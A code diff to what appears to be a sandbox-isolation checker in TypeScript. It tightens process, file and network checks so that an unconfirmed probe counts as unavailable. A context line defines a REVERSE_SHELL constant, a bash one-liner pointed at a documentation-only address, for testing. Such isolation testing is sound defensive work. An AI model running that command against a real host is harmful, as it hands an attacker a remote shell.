@@ -1,6 +1,6 @@
 import { randomBytes } from 'node:crypto'
 import { once } from 'node:events'
-import { rm, writeFile } from 'node:fs/promises'
+import { readFile, rm, writeFile } from 'node:fs/promises'
 import { type AddressInfo, createServer } from 'node:net'
 import { tmpdir } from 'node:os'
 import { join } from 'node:path'
@@ -44,6 +44,7 @@ const MEMORY_MIB = 96
 const LIFE_MS = 700
 /** Of a program that is to hit a limit: without the limit, its end is another. */
 const PATIENCE_MS = 30_000
+const MAX_SAID = 4096
 /** To nobody (RFC 5737). */
 const REVERSE_SHELL = 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1'
 
@@ -81,8 +82,9 @@ async function processes(sandbox: Held, signal: AbortSignal): Promise<Check> {
     signal,
   )
   const [mine = '', count = ''] = said.split('|').map((text) => text.trim())
-  const isSeen = mine.includes(process.argv[1] ?? process.execPath)
-  if (isSeen || !/^\d{1,2}$/.test(count))
+  const own = (await readFile('/proc/self/cmdline', 'utf8')).replaceAll('\0', ' ').slice(0, MAX_SAID).trim()
+  if (!/^\d+$/.test(count)) return untold(check, said)
+  if (mine === own || count.length > 2)
     return { check, state: 'unavailable', evidence: `it sees processes of the host: ${said.slice(0, 200)}` }
   return { check, state: 'proven', evidence: `it sees ${count} processes, all its own; process ${process.pid} of the host is none of them` }
 }
@@ -93,6 +95,7 @@ async function files(sandbox: Held, { path, token }: Canary, signal: AbortSignal
   const [read = '', written = ''] = said.split('|')
   if (read.includes(token)) return { check, state: 'unavailable', evidence: `it read ${path}, a file of the host` }
   if (written.includes('made')) return { check, state: 'unavailable', evidence: 'it made a file in /usr/bin' }
+  if (!written.includes('touch: ')) return untold(check, said)
   return { check, state: 'proven', evidence: `${path}, which anyone on the host may read, is not there; /usr cannot be written` }
 }
 
@@ -100,11 +103,17 @@ async function network(sandbox: Held, canary: Canary, signal: AbortSignal): Prom
   const check = 'network isolation'
   const said = await shell(sandbox, `(exec 3<>/dev/tcp/127.0.0.1/${canary.port} && cat <&3) 2>&1; cut -d: -f1 -s /proc/net/dev`, signal)
   if (canary.heard > 0) return { check, state: 'unavailable', evidence: 'it reached a listener of the host' }
+  if (!said.includes('/dev/tcp/')) return untold(check, said)
   return {
     check,
     state: 'proven',
     evidence: `a listener of the host on 127.0.0.1:${canary.port} was not reached (${said.includes('refused') ? 'refused' : 'no answer'})`,
   }
+}
+
+/** What was not tried has not held. */
+function untold(check: Check['check'], said: string): Check {
+  return { check, state: 'unavailable', evidence: `the program that tries it did not say how that went: ${said.slice(0, 200)}` }
 }
 
 async function memory({ door, request }: Parts, signal: AbortSignal): Promise<Check> {
@@ -200,7 +209,7 @@ async function shell(sandbox: Held, script: string, signal: AbortSignal): Promis
   const pieces: Uint8Array[] = []
   for await (const { bytes } of started.output) pieces.push(bytes)
   await started.exit
-  return Buffer.concat(pieces).toString().slice(0, 4096)
+  return Buffer.concat(pieces).toString().slice(0, MAX_SAID)
 }
 
 /** How the sandbox ended, or `its program` where it did not. */
